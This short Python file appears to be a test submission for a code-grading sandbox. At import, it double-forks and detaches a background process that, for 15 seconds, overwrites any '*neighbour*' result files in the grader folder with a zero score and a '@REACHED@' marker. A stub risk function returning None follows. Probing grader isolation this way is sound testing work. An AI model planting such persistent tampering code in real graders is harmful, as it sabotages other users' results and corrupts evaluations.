"""Leaves a process behind that spoils the next submission's result."""

import glob
import os
import sys
import time

folder = os.path.dirname(sys.argv[-1])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.monotonic() + 15
        while time.monotonic() < end:
            for name in glob.glob(f"{folder}/*neighbour*"):
                with open(name, "w") as file:
                    file.write('{"points": 0.0, "messages": ["@REACHED@"]}')
            time.sleep(0.02)
    os._exit(0)


def empirical_risk(predictions, labels):
    return None
